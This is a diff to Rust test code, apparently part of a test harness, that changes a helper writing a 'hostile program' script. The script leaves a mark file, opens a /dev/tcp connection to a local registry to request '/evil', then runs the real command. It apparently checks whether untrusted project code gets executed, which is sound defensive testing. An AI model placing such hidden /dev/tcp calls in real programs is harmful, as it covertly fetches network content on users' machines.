@@ -92,9 +92,10 @@ impl World {
     /// A program of the project that leaves a mark in the project, asks the registry for `/evil`,
     /// and then does what the program does in whose place it is.
     pub(crate) fn hostile_program(&self, name: &str, then: &str) {
+        // Not every shell reaches the network by itself; the mark is enough where none does.
         let script = format!(
-            "#!/bin/bash\necho ran >> {mark}\nexec 3<>/dev/tcp/127.0.0.1/{port} && printf 'GET \
-             /evil HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3 > {mark}.answer\n{then}\n",
+            "#!/bin/sh\necho ran >> {mark}\nbash -c \"exec 3<>/dev/tcp/127.0.0.1/{port} && printf \
+             'GET /evil HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3\" > {mark}.answer 2> /dev/null\n{then}\n",
             mark = self.mark().display(),
             port = self.registry.port(),
         );
